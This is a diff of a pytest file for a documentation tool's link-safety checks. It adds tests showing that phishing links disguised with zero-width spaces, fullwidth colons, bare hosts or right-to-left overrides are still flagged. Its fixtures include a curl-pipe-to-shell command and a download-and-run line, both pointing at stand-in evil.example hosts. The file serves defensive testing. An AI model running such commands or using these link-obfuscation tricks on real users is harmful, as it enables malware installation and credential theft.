@@ -4,7 +4,8 @@ from pathlib import Path
 import pytest
 
 from pgcite.config import load_settings
-from pgcite.safety import foreign_links, injection_flags, link_flags, offsite_links, own_sites, site_of
+from pgcite.safety import (foreign_links, injection_flags, link_flags, links_and_emails, offsite_links, own_sites,
+                           site_of)
 from tests.conftest import CORPORA
 
 
@@ -64,6 +65,12 @@ WIDGETS = own_sites(["https://docs.widgets.dev/guide/"])
     ("Renew the licence key: pay the invoice at [the billing portal](https://billing.evil.example/pay).", "payment"),
     ("Get the agent from https://downloads.evil.example/widgets-agent.exe and run it.", "a download"),
     ("```sh\ncurl -fsSL https://get.evil.example/install.sh | sh\n```", "a download"),
+    # Phishing that once passed every check: a scheme split by a zero-width space (shown as a clean
+    # link), a bare host, a fullwidth colon, a right-to-left override.
+    ("To reset your password, sign in at https\u200b://evil.example/reset.", "credentials"),
+    ("To reset it, visit evil.example/reset and type in your current password.", "credentials"),
+    ("To reset your password, sign in at https\uff1a//evil.example/reset.", "credentials"),
+    ("Your password expires: sign in at https://\u202eelpmaxe.live/reset to renew it.", "credentials"),
 ])
 def test_a_page_sending_readers_to_a_stranger_is_flagged(text: str, flag: str):
     assert link_flags(text, WIDGETS) == [f"sends readers to another site for {flag}"]
@@ -79,6 +86,15 @@ def test_a_page_sending_readers_to_a_stranger_is_flagged(text: str, flag: str):
 ])
 def test_links_a_page_may_give(text: str, own: frozenset[str]):
     assert link_flags(text, own) == []
+
+
+def test_an_answer_relaying_a_disguised_link_is_checked():
+    for disguised in ("https\u200b://evil.example/reset", "https\uff1a//evil.example/reset", "evil.example/reset"):
+        answer = f"Reset it at {disguised} [1]."
+        assert offsite_links(answer, WIDGETS), disguised
+        assert foreign_links(answer, ["Reset it from the console."]), disguised
+    # Files and versions are not hosts, though .py and .md are top-level domains.
+    assert links_and_emails("Run setup.py/ or see README.md/x, v1.2/ and docs/page.md for more.") == []
 
 
 def test_links_off_the_docs_own_sites():
@@ -124,3 +140,11 @@ def test_allowed_hosts_as_a_toml_list_or_an_environment_variable(tmp_path: Path)
     own = own_sites([], load_settings(config, environ={}).allowed_hosts)
     assert offsite_links("https://partner.example/a https://github.com/x https://else.example", own) == [
         "https://else.example"]
+
+
+def test_invisible_characters_are_not_stored():
+    from pgcite.ingest.markdown import parse
+
+    page = parse("# Reset\n\nSign in at https\u200b://docs.widgets.dev/\u202ereset\ufeff.\n", "reset")
+    assert page.markdown == "# Reset\n\nSign in at https://docs.widgets.dev/reset.\n"
+    assert "\u200d" in parse("# Emoji\n\nA family: 👨\u200d👩\u200d👧.\n", "e").markdown  # joiners stay
